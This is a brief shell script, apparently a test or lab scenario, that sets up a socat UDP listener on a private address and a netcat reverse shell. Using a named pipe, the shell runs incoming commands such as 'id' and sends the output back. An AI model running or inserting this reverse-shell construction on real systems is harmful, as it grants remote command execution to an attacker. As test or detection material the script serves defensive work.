# nc passes datagrams to a shell, and what that answers comes back by a named pipe.
peers() { (sleep 6; echo id; sleep 0.5; echo exit; sleep 1) | timeout 90 socat - UDP-LISTEN:4444,bind=10.200.1.2 > got & listening u 4444; }
scene() {
  mkfifo back
  (echo here; cat back) | timeout 9 nc.openbsd -u 10.200.1.2 4444 | sh > back 2>&1
}
